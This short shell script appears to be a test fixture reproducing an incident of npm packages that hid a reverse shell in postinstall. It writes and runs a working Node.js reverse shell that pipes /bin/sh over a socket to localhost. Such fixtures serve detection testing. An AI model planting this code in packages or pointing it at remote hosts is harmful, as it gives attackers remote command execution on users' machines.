# incident: npm packages with a reverse shell in postinstall (several)
# finding: reverse-shell
# needs: node
cat > postinstall.js <<'JS'
const net = require('net'), cp = require('child_process');
const sh = cp.spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(+process.env.SHELL_PORT, '127.0.0.1', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
sh.on('exit', () => client.destroy());
JS
node postinstall.js
